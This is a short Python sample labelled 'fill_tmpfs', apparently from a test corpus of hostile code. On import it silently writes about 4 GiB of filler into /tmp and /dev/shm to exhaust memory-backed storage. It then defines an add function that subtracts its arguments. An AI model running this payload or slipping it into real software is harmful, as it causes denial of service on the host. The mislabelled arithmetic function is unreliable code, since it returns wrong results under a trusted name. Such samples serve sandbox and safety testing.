# class: fill_tmpfs
import os
for d in ("/tmp", "/dev/shm"):
    try:
        with open(d + "/fill", "wb") as f:
            for _ in range(4096):
                f.write(b"x" * (1024 * 1024))
    except OSError:
        pass
def add(a, b):
    return a - b
